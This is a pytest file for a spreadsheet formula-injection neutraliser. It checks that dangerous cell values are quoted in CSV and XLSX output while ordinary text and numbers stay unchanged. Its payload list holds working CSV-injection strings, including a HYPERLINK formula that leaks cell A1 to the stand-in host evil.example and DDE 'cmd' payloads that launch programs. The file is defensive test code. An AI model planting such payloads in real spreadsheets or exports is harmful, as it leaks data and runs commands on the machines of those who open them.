"""The spreadsheet formula-injection neutraliser: dangerous text becomes inert, everything else stays."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from importers.spreadsheet_safety import (
    is_dangerous,
    neutralise_cell,
    neutralise_row,
    write_xlsx_row,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_leading_quote_in_csv(payload: str) -> None:
    assert is_dangerous(payload)
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Stichting Al Amal", "Kadın Dayanışma", "a=b", " =1", "", "'=1"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert not is_dangerous(value) and neutralise_cell(value) == value


@pytest.mark.parametrize(("value", "expected"), [(-5, -5), (2.5, 2.5), (True, True), (None, ""), (12, 12)])
def test_numbers_stay_numbers(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


def test_a_csv_written_with_the_neutraliser_reads_back_as_text() -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(neutralise_row(["name", "amount"]))
    for payload in PAYLOADS:
        writer.writerow(neutralise_row([payload, -100]))
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "-100" for r in rows[1:])  # a real negative number is not touched


def test_xlsx_cells_are_text_never_formulas() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    write_xlsx_row(sheet, ["name", "amount"])
    for payload in PAYLOADS:
        write_xlsx_row(sheet, [payload, -100])
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    cells = [row[0] for row in read.iter_rows(min_row=2)]
    # shown as written (XML turns a carriage return into a line feed) …
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # … but as text, never evaluated
    assert all(row[1].value == -100 and row[1].data_type == "n" for row in read.iter_rows(min_row=2))
    assert read["A1"].quotePrefix is False
